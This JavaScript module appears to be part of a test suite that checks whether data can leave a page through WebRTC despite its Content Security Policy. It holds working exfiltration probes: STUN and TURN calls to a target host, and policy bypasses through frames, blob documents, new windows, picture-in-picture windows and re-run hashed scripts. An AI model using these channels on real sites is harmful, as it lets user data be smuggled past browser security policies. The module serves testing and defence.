// WebRTC, which no policy of a page governs: by its own name, and out of other documents.
import { blob, named, wait } from "./aim.js";
import { channel, group } from "./channel.js";
import { element } from "./elements.js";

/** Milliseconds in which candidates are gathered, which is when servers are asked. */
const GATHERING = 2_500;

async function gather(Connection, servers) {
  const connection = new Connection({ iceServers: servers });
  connection.createDataChannel("stolen");
  await connection.setLocalDescription(await connection.createOffer());
  await wait(GATHERING);
  return connection.iceGatheringState;
}

const stun = (aim) => [{ urls: `stun:${aim.host()}:3478` }];

const turn = (aim, transport) => [
  { urls: `turn:${aim.host()}:3478?transport=${transport}`, username: "ACGT", credential: "ACGT" },
];

/** A frame that runs the scripts of this page once more: their hashes are allowed. */
async function repeated(aim, attributesOf) {
  const scripts = [...document.scripts]
    .map(({ textContent }) => textContent)
    // What hardens the page is left out where it stands by itself.
    .filter((text) => text.includes("stolenGenome"))
    .map((text) => `<script>${text}</script>`);
  if (scripts.length === 0) throw new TypeError("no script that could be repeated");
  const name = JSON.stringify({ repeat: aim.id, settings: aim.settings });
  await element("iframe", { name, ...attributesOf(scripts.join("")) }, document.body);
  await wait(2 * GATHERING);
}

const inFrame = async (attributes) => {
  const frame = await element("iframe", attributes, document.body);
  await wait(300);
  return frame.contentWindow;
};

export const calls = group("calls", [
  channel("rtc-stun", "a STUN server", (aim) => gather(RTCPeerConnection, stun(aim))),
  channel("rtc-turn-udp", "a TURN server", (aim) => gather(RTCPeerConnection, turn(aim, "udp"))),
  channel("rtc-turn-tcp", "a TURN server over TCP", (aim) =>
    gather(RTCPeerConnection, turn(aim, "tcp")),
  ),
  channel("rtc-address", "a STUN server without a name", (aim) =>
    gather(RTCPeerConnection, [{ urls: `stun:203.0.113.9:${aim.port}` }]),
  ),
  channel("rtc-elsewhere", "a STUN server at an address of nobody", () =>
    gather(RTCPeerConnection, [{ urls: "stun:192.0.2.77:3478" }]),
  ),
  channel(
    "rtc-prefixed",
    "by its older name",
    (aim) => gather(webkitRTCPeerConnection, stun(aim)),
    { there: named("webkitRTCPeerConnection") },
  ),
  channel("rtc-frame", "out of an empty frame", async (aim) =>
    gather((await inFrame({})).RTCPeerConnection, stun(aim)),
  ),
  channel("rtc-frame-srcdoc", "out of a frame with text", async (aim) =>
    gather((await inFrame({ srcdoc: "<p>frame</p>" })).RTCPeerConnection, stun(aim)),
  ),
  channel("rtc-frame-again", "in a frame that repeats the allowed script", (aim) =>
    repeated(aim, (srcdoc) => ({ srcdoc })),
  ),
  channel("rtc-frame-blob", "in a frame of a blob that repeats the allowed script", (aim) =>
    repeated(aim, (text) => ({ src: blob(text, "text/html") })),
  ),
  channel("rtc-object", "out of an object", async (aim) => {
    const object = await element("object", { data: blob("<p>x</p>", "text/html") }, document.body);
    await wait();
    return gather(object.contentWindow.RTCPeerConnection, stun(aim));
  }),
  channel(
    "rtc-window",
    "out of an empty window",
    (aim) => gather(open("about:blank").RTCPeerConnection, stun(aim)),
    { alone: true },
  ),
  channel(
    "rtc-picture-window",
    "out of a window that lies above all",
    async (aim) => {
      const window = await documentPictureInPicture.requestWindow();
      return gather(window.RTCPeerConnection, stun(aim));
    },
    { alone: true, there: named("documentPictureInPicture") },
  ),
]);

/** What a repeated script does in its frame. */
export const repeat = (aim) => gather(globalThis.RTCPeerConnection, stun(aim));
